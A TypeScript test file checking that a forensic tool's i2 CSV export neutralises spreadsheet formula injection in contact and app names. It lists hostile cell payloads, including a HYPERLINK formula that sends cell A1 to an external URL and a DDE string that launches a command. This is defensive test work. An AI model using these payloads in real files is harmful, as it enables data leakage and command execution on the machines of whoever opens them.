// The i2 CSV export neutralises formula injection in every cell that comes from evidence: contact
// names and app names with =, +, -, @, full-width forms, leading tab/space; the parsed cells show
// the text with a quote prefix and no cell a spreadsheet would run.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { tempCase, type TempStore } from '../../testkit/temp-store.js';
import type { CaseRecord } from '../../store/queries/cases.js';
import { writeComms } from '../../graph/synthetic-comms.js';
import { exportI2Csv } from './i2-csv-export.js';
import { isFormulaLike } from '../../model/csv-cell.js';

const P = (n: number) => `phone:+447700900${String(n).padStart(3, '0')}`;
const HOSTILE = [
  '=HYPERLINK("http://example.org/?"&A1,"click")',
  '+cmd',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '  =1+1',
  '\uff1d1+1',
  '\uff20SUM(1)',
];
let t: TempStore & { kase: CaseRecord };

beforeAll(async () => {
  t = await tempCase({ ref: 'OP-CSV' });
  await writeComms(t.store, t.kase.id, {
    devices: [{ label: 'Phone A', exhibit: 'AB/1', owners: [P(1)] }],
    items: [
      { kind: 'message', device: 'Phone A', from: 'owner', to: [P(2)], at: 0, app: '=app()' },
    ],
    contacts: HOSTILE.map((name, i) => ({ device: 'Phone A', name, keys: [P(10 + i)] })),
  });
});
afterAll(() => t.cleanup());

describe('i2 CSV formula safety', () => {
  it('prefixes every formula-like cell and keeps the text', async () => {
    const file = join(t.dir, 'i2.csv');
    await exportI2Csv(t.store, t.kase.id, file);
    const rows = parseCsv(readFileSync(file, 'utf8').slice(1), { columns: true }) as Array<
      Record<string, string>
    >;
    const cells = rows.flatMap((r) => Object.values(r));
    for (const c of cells) expect(isFormulaLike(c), JSON.stringify(c)).toBe(false);
    const labels = rows
      .filter((r) => r.LinkType === 'Saved Contact')
      .map((r) => r.Entity2Label)
      .sort();
    expect(labels).toEqual(
      HOSTILE.map((h, i) => `'${h} (+447700900${String(10 + i).padStart(3, '0')})`).sort(),
    );
    expect(rows.find((r) => r.LinkType === 'Message')!.App).toBe("'=app()");
  });
});
